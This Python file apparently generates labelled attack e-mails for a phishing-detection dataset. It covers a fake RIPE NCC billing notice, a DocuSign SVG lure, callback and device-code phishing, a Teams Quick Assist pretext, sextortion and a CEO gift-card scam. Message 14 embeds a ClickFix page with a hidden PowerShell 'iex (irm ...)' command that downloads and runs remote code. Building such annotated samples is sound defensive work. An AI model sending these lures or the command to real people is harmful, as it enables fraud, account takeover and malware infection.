"""Attack messages 09-16 (English)."""
import base64

import mailers as M
from core import message, alt, mixed, related, pdf_att
from mime import Text, Attachment, to_plain, html_outlook, html_gmail, html_simple, html_branded
from common import D, SIG
from people import st, BTC
from docs import simple_doc
from util import hexid, alnum, uuid4, rfc2822, plus

F = "attack"


def build():
    # ------------------------------------------------------------ 09 RIPE NCC LIR fee phishing via Mailgun
    link = "https://email.mg.ripencc-lir.net/c/eJxNj0FuwyAQRU8TdlYDGDALL7qo1KrHAAE2qAYkwHJ6-47tpIk0i_nz5s_XAEsYy6XSn0g1SW0xhD0sSCq_lmZfs_xZkKG5qHjUJdZVrLpl89n1I1wM8_9fr_22-TQTUKo3CAnUKX-3pNr_wX1u3u8"
    txt = """Dear Thomas Brenner,

Our records show that the 2026 service fee for your LIR account de.examplegroup (invoice 2026-048113, EUR 1,800.00) is still outstanding, despite the reminders sent on 2 September and 1 October 2026.

As set out in the RIPE NCC Charging Scheme 2026 and the Standard Service Agreement, the RIPE NCC may terminate the agreement if payment is not received. Termination results in the deregistration of all Internet number resources held by the LIR account, including:

  185.212.48.0/22 (IPv4 allocation)
  2a0f:8c40::/29 (IPv6 allocation)
  AS207455

To avoid suspension of your LIR Portal access and the start of the deregistration procedure on 13 November 2026, please settle the outstanding amount by credit card in the LIR Portal:

[[BUTTON:Log in to my.ripe.net|%s]]

If you have already paid, please disregard this message.

Kind regards,

Billing Department
RIPE NCC
Stationsplein 11, 1012 AB Amsterdam, The Netherlands""" % link
    html = html_branded("RIPE NCC", txt, brand="#001f5b", logo_text="RIPE NCC | Billing", lang="en",
                        footer="RIPE Network Coordination Centre\nYou are receiving this message as a registered contact of an LIR account.")
    message(F, 9, "en", "ripe-ncc-lir-fee-phishing-mailgun", M.mailgun,
            ("RIPE NCC Billing", "billing@ripencc-lir.net"), [st("thomas.brenner")],
            "[Final notice] LIR account de.examplegroup - unpaid service fee, deregistration of resources",
            D("en", 11, 5, 10, 14, 22),
            alt(to_plain(txt, "angle"), html, "utf-8", cte_p="7bit"),
            opt={"mg": "mg.ripencc-lir.net", "tag": "billing-reminder"},
            what="ISP-specific credential/card phishing: 'RIPE NCC Billing' threatens deregistration of the company's IPv4/IPv6 allocations and ASN unless the fee is paid by card in the 'LIR Portal'.",
            why="Sender domain ripencc-lir.net is not ripe.net; link (Mailgun click tracking) leads to a fake my.ripe.net; RIPE NCC invoices are paid by bank transfer/card in the real LIR Portal and never threaten deregistration in a single e-mail; aimed at the LIR admin whose RIPE NCC Access credentials control routing objects. Genuine RIPE NCC invoice mail is business/09.",
            pair="business/09")

    # ------------------------------------------------------------ 10 DocuSign lure with SVG attachment (compromised cPanel mailbox)
    svg_url = "https://docsign-secure-view.r2.dev/env/7c41a0/index.html#am9lcmcuaGFuc2VuQGV4YW1wbGUuY29t"
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="380" viewBox="0 0 600 380">
  <rect width="600" height="380" fill="#f4f4f4"/>
  <rect x="40" y="30" width="520" height="320" fill="#ffffff" stroke="#d9d9d9"/>
  <rect x="40" y="30" width="520" height="56" fill="#1e1e1e"/>
  <text x="64" y="66" font-family="Arial, Helvetica, sans-serif" font-size="22" fill="#ffffff" font-weight="bold">DocuSign</text>
  <text x="300" y="132" text-anchor="middle" font-family="Arial, Helvetica, sans-serif" font-size="17" fill="#333333">Your document has been completed</text>
  <text x="300" y="162" text-anchor="middle" font-family="Arial, Helvetica, sans-serif" font-size="13" fill="#666666">Colocation Services Agreement FRA1 - Renewal 2027.pdf</text>
  <text x="300" y="186" text-anchor="middle" font-family="Arial, Helvetica, sans-serif" font-size="12" fill="#888888">Secured by DocuSign Envelope ID 7C41A0E2-93D5-4F18-B6A7-2E0C9D41F3B8</text>
  <a xlink:href="%s" href="%s" target="_blank">
    <rect x="210" y="218" width="180" height="44" rx="3" fill="#ffc820"/>
    <text x="300" y="246" text-anchor="middle" font-family="Arial, Helvetica, sans-serif" font-size="15" fill="#1e1e1e" font-weight="bold">VIEW DOCUMENT</text>
  </a>
  <text x="300" y="318" text-anchor="middle" font-family="Arial, Helvetica, sans-serif" font-size="10" fill="#999999">Open in your browser to view the completed document.</text>
</svg>
""" % (svg_url, svg_url)
    txt = """DocuSign

All parties have completed "Colocation Services Agreement FRA1 - Renewal 2027".

The completed document is attached to this e-mail. Open the attachment in your browser to view and download the signed PDF.

Powered by DocuSign

Do Not Share This Email
This email contains a secure document. Please do not share this email, link, or access code with others."""
    html = html_branded("DocuSign", txt, brand="#1e1e1e", logo_text="DocuSign", lang="en")
    message(F, 10, "en", "docusign-lure-svg-attachment", M.roundcube_cpanel,
            ("DocuSign Electronic Signature", "reception@brightsmile-dental.co.uk"), [st("joerg.hansen")],
            "Completed: Colocation Services Agreement FRA1 - Renewal 2027",
            D("en", 11, 10, 16, 3, 40),
            mixed(alt(txt, html, "utf-8"),
                  Attachment(svg.encode("utf-8"), "image/svg+xml", "Colocation_Services_Agreement_FRA1_2027.svg")),
            opt={"host": ("uk1012.krystal.uk", "185.224.137.58"), "ip": "91.92.251.103", "smtp": True, "zone": "en"},
            what="DocuSign-branded 'completed envelope' lure to the data-centre manager; the 'document' is an SVG image whose button links to a phishing page carrying his address in the URL fragment.",
            why="Sent from a compromised dental practice mailbox on shared hosting, not from docusign.net; DocuSign never attaches documents as SVG; SVG contains a hyperlink to an r2.dev (Cloudflare R2) page with the recipient's base64 address - SVG-attachment credential phishing (script removed to keep it inert). Genuine DocuSign envelope is business/10.",
            pair="business/10")

    # ------------------------------------------------------------ 11 TOAD callback, Gmail + PDF
    txt = """Hello,

Thank you for choosing Microsoft. Your annual subscription for Microsoft 365 Business Premium (250 users) has been renewed successfully and GBP 14,250.00 will be debited from your account within 24 hours.

Please find the receipt attached for your records.

If you did not authorise this renewal or wish to request a refund, please call our billing desk on +44 20 3808 4471 within 24 hours. After this period the charge can no longer be reversed.

Regards,
Billing Centre"""
    receipt = simple_doc([
        "## Microsoft 365 - Subscription Receipt", "", "Order number: MS-UK-88419327", "Order date: 04 November 2026",
        "Customer: sarah.oconnor@example.com", "", "---",
        "Microsoft 365 Business Premium (annual)     250 x £57.00     £14,250.00",
        "VAT (reverse charge)                                           £0.00",
        "Total charged                                             £14,250.00", "---", "",
        "Payment method: Direct debit on file", "Status: Processing", "",
        "# Did not authorise this order?",
        "Call our billing support team within 24 hours to cancel and receive a full refund:",
        "# +44 20 3808 4471   (Mon - Sun, 24 hours)", "",
        "Please have your order number ready when you call.",
    ], title="Receipt MS-UK-88419327", author="", producer="Skia/PDF m118 Google Docs Renderer",
        creator="Google Docs", date="D:20261104083011Z")
    message(F, 11, "en", "callback-phishing-m365-renewal-pdf", M.gmail,
            ("Billing Centre", "billing.renewals.centre365@gmail.com"), [st("sarah.oconnor")],
            "Your subscription renewal receipt - Order #MS-UK-88419327",
            D("en", 11, 4, 8, 31, 5),
            mixed(alt(txt, html_gmail(txt), "utf-8"),
                  pdf_att(receipt, "Receipt_MS-UK-88419327.pdf")),
            what="Callback phishing (TOAD): fake Microsoft 365 renewal receipt for GBP 14,250 with a 'call within 24 hours to cancel' phone number in body and PDF.",
            why="Microsoft billing never comes from a gmail.com address; no links at all (evades URL scanning), just a phone number; the call centre talks the victim into installing remote-access software or 'refunding' - telephone-oriented attack delivery. Genuine Microsoft renewal notice is business/11.",
            pair="business/11")

    # ------------------------------------------------------------ 12 external-tenant 'IT Service Desk' + Quick Assist pretext
    txt = """Hi James,

Since around 9:40 this morning your mailbox has been receiving an unusually high number of newsletter and subscription confirmation emails (more than 1,400 so far). This is a known spam-flooding pattern and our security team is putting a filter in place for your account.

To finish the change we need about five minutes with you. One of our engineers will call you on Microsoft Teams today at around 14:30 - the call will show as "IT Service Desk (External)". He will ask you to open Quick Assist (Windows key + Ctrl + Q) and give him the 6-digit code so he can apply the filter on your laptop.

Please don't restart your laptop or delete the messages before the call, we need them to train the filter.

Thanks for your patience,

IT Service Desk
Example Group"""
    message(F, 12, "en", "teams-quick-assist-helpdesk-pretext", M.m365,
            ("IT Service Desk", "servicedesk@examplegroupit.onmicrosoft.com"), [st("james.whitfield")],
            "Your mailbox - spam flood detected, support call today 14:30",
            D("en", 11, 17, 12, 52, 9),
            alt(txt, html_outlook(txt, "us-ascii", lang="EN-GB"), "us-ascii"),
            opt={"geo": "EUR03-DBA", "region": "eurprd04", "clang": "en-US", "lang": "en-US"},
            what="Help-desk impersonation after an e-mail bombing: announces a Teams call from 'IT Service Desk (External)' and asks the user to start Quick Assist and read out the code.",
            why="Sent from an attacker-created onmicrosoft.com tenant, not from example.com; the company's IT does not use external Teams accounts; Quick Assist hand-over gives full remote control (tactic used by ransomware affiliates since 2024). Internal warning about exactly this is business/12.",
            pair="business/12")

    # ------------------------------------------------------------ 13 device-code phishing from compromised customer tenant
    txt = """Hi Sarah,

Hope you're well. As discussed with James last week, I've put our Q4 statement and the breakdown of the disputed roaming charges on our 85 SIMs into a secure Teams workspace so we can go through them together.

Because it's an external share, Microsoft asks you to authorise the access once:

1. Go to https://microsoft.com/devicelogin
2. Enter the code  HBQ7NKW3X
3. Sign in with your Example Group account and approve.

The code is only valid for 15 minutes, so if it's expired by the time you see this just reply and I'll send you a fresh one.

Many thanks,
Gareth

Gareth Lloyd
Finance Manager
Pennine Freight Ltd
Unit 4, Wakefield Europort, Castleford WF10 5QH
T: 01977 558 210"""
    message(F, 13, "en", "device-code-phishing-compromised-customer", M.m365,
            ("Gareth Lloyd", "gareth.lloyd@penninefreight.co.uk"), [st("sarah.oconnor")],
            "Pennine Freight - Q4 statement and disputed SIM charges",
            D("en", 11, 24, 11, 7, 33),
            alt(txt, html_outlook(txt, "utf-8", lang="EN-GB"), "utf-8"),
            opt={"geo": "EUR01-DB5", "region": "eurprd02", "clang": "en-GB"},
            client=("EUR01-DB5-obe.outbound.protection.outlook.com", "mail-db5eur01on2108.outbound.protection.outlook.com", "40.107.15.108"),
            what="Device-code phishing from a genuinely compromised customer mailbox: the victim is told to enter an attacker-generated code at the real microsoft.com/devicelogin.",
            why="The link is the genuine Microsoft page, so URL reputation is clean, but entering the code signs the attacker's device in as the victim (OAuth device authorisation grant abuse); a real external Teams share never needs a device code; mailbox of Pennine Freight is hijacked (their genuine remittances come via Xero, see business/14). Entra risk alert business/13 is the matching genuine notice.",
            pair="business/13")

    # ------------------------------------------------------------ 14 ClickFix remittance advice (look-alike of customer)
    cmd = 'powershell -w h -nop -c "iex (irm \'https://cf-remit-verify.com/v?i=7741\')"  # I am not a robot - Cloudflare Verification ID: 7741-20261104'
    att = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Remittance Advice HF-BACS-20261104</title>
<style>body{font-family:-apple-system,Segoe UI,Roboto,Arial,sans-serif;background:#fff;color:#313131;margin:0}
.w{max-width:560px;margin:60px auto;padding:0 20px}h1{font-size:26px;font-weight:500}.box{border:1px solid #d9d9d9;background:#fafafa;padding:18px;margin:22px 0}
code{display:block;background:#1e1e1e;color:#e6e6e6;padding:10px;font-size:12px;word-break:break-all}ol li{margin:6px 0}.f{font-size:12px;color:#888}</style></head>
<body><div class="w">
<h1>harrowfinch.sharepoint.com</h1>
<p>Verifying you are human. This may take a few seconds.</p>
<div class="box"><b>Verification required</b><br>The remittance document is protected. To prove you are not a robot, complete these steps:
<ol><li>Select and copy the verification code below (Ctrl + C)</li><li>Press <b>Windows + R</b></li><li>Press <b>Ctrl + V</b> and then <b>Enter</b></li></ol>
<code>%s</code></div>
<p>harrowfinch.sharepoint.com needs to review the security of your connection before proceeding.</p>
<p class="f">Ray ID: 8e1f4c2a9b7d3e51 &middot; Performance &amp; security by Cloudflare</p>
</div></body></html>
""" % cmd.replace("&", "&amp;").replace("<", "&lt;")
    txt = """Dear Supplier,

Please find attached the remittance advice for the payment made today by Faster Payments.

Payment reference: HF-BACS-20261104
Amount: GBP 18,240.00
Invoices: EGUK-2026-0934, EGUK-2026-0981

Please open the attachment in your browser to view the full remittance.

Kind regards,

Accounts Payable
Harrow & Finch LLP"""
    message(F, 14, "en", "clickfix-remittance-html-attachment", M.phpmailer_vps,
            ("Harrow & Finch LLP - Accounts", "accounts@harrowfinch-llp.co.uk"), [st("sarah.oconnor")],
            "Remittance Advice - Payment Ref HF-BACS-20261104",
            D("en", 11, 4, 15, 12, 48),
            mixed(Text(txt, "plain", "utf-8", "quoted-printable"),
                  Attachment(att.encode("utf-8"), "text/html", "Remittance_Advice_HF-BACS-20261104.html")),
            opt={"vps": ("vmi2417730.contaboserver.net", "62.171.167.204"), "helo": "mail.harrowfinch-llp.co.uk",
                 "rdns": "vmi2417730.contaboserver.net", "zone": "utc"},
            what="ClickFix: fake remittance advice whose HTML attachment imitates a Cloudflare 'verify you are human' page and instructs Win+R / Ctrl+V / Enter with a PowerShell one-liner.",
            why="Look-alike of the customer's domain (harrowfinch-llp.co.uk vs harrowfinch.co.uk) sent from a Contabo VPS; the 'verification' makes the user run 'iex (irm ...)' i.e. download-and-execute; no legitimate CAPTCHA ever asks for the Run dialog. Genuine remittance advice (Xero) is business/14.",
            pair="business/14")

    # ------------------------------------------------------------ 15 extortion, spoofed self-sender, BTC
    btc = BTC["extortion"]
    txt = """Hello!

I have some bad news for you.
A few months ago I gained access to the devices you use for browsing the internet. Since then I have been monitoring your activity.

Here is how it happened: you visited a website with an exploit kit, and a trojan was installed on your system. I have full access to your camera, microphone, contacts and your work mailbox james.whitfield@example.com - this is why this message is sent from your own address.

I recorded a video of you while you were watching adult content, and I put it side by side with the screen recording. With one click I can send this video to all your colleagues, clients and family members.

If you want to prevent this, transfer 1450 USD to my Bitcoin wallet (if you don't know how to do this, search "buy bitcoin" on Google):

%s

After payment I will delete the video and remove the software, you will never hear from me again. You have 48 hours from the moment you opened this email. I receive a notification as soon as you read it.

Do not try to reply, this mailbox is not monitored. Do not go to the police - I will know.""" % btc
    d = D("en", 11, 7, 4, 42, 13)
    ext = {"client": ("User", "187-45-118-203.dsl.telesp.net.br", "187.45.118.203"),
           "hops": [], "mid": "<%s$%s@example.com>" % ("2E8B1F7A", "6C4D29E1"),
           "headers": [("X-Priority", "3"), ("X-Mailer", "Microsoft Outlook Express 6.00.2900.2180")],
           "order": "generic", "tls": None}
    message(F, 15, "en", "sextortion-bitcoin-spoofed-self", M.service,
            ("James Whitfield", "james.whitfield@example.com"), [("James Whitfield", "james.whitfield@example.com")],
            "Payment pending. Your account has been hacked.",
            d, Text(txt, "plain", "us-ascii", "7bit", quote_charset=False, hardwrap=76),
            opt=ext, mx_tls=False,
            what="Sextortion/extortion spam: claims malware and a compromising video, demands USD 1,450 to a Bitcoin bech32 address within 48 hours.",
            why="From spoofed as the recipient's own address but delivered directly from a Brazilian DSL host with HELO 'User' (botnet), forged ancient X-Mailer; generic scare text, bitcoin ransom (address has a valid bech32 checksum).")

    # ------------------------------------------------------------ 16 gift-card request, CEO impersonation from Gmail on iPhone
    txt = """James,

Are you at your desk? I need you to take care of something for me discreetly today. I'm in back-to-back board meetings in Frankfurt and can't take calls.

We want to thank a few of our key UK clients before Christmas and I'd like to surprise them with gift cards. Please purchase 10 Amazon.co.uk gift cards of £200 each (physical cards from a shop or e-gift cards are both fine), scratch the back, take a clear photo of each code and email them to me here. I'll explain to the team on Monday and Sarah will reimburse you from the budget.

Let me know once you're on it.

Matthias

Sent from my iPhone"""
    d = D("en", 12, 4, 10, 26, 51)

    def iphone(ctx):
        r = ctx["r"]
        mid = "<%s@gmail.com>" % uuid4(r, upper=True)
        hops = ["from smtpclient.apple ([2a02:3037:%s:%s:%s:%s:%s:%s])\n        by smtp.gmail.com with ESMTPSA id %s-%ssm%d.%d.%d\n        for <%s>\n        (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256 bits=128/128);\n        %s" % (
            hexid(r, 3), hexid(r, 4), hexid(r, 4), hexid(r, 4), hexid(r, 4), hexid(r, 4),
            "5b1f17b1804b1", hexid(r, 10), r.randint(1000000, 9999999), r.randint(2, 9), r.randint(10, 50),
            ctx["rcpt"], rfc2822(plus(ctx["date"], 0), "pt", True))]
        return {"msgid": mid, "hops": hops,
                "client": ("mail-wr1-f44.google.com", "mail-wr1-f44.google.com", "209.85.221.44"),
                "tls": M.TLS13_128, "headers": [("X-Mailer", "iPhone Mail (22B91)")],
                "boundary": lambda k: "Apple-Mail-" + uuid4(r, upper=True), "order": "generic"}
    message(F, 16, "en", "gift-card-ceo-impersonation-iphone", iphone,
            ("Matthias Koehler", "m.koehler.ceo@gmail.com"), [st("james.whitfield")],
            "Quick favour", d, Text(txt, "plain", "utf-8", "quoted-printable", quote_charset=False),
            what="Gift-card scam: 'Matthias Koehler' (CEO) asks the London office manager to buy 10 x £200 Amazon gift cards and e-mail photos of the codes.",
            why="CEO's name on a Gmail address sent from an iPhone, secrecy + unavailability, gift cards as 'client thank-you', request to send scratched codes by e-mail: textbook gift-card BEC.")
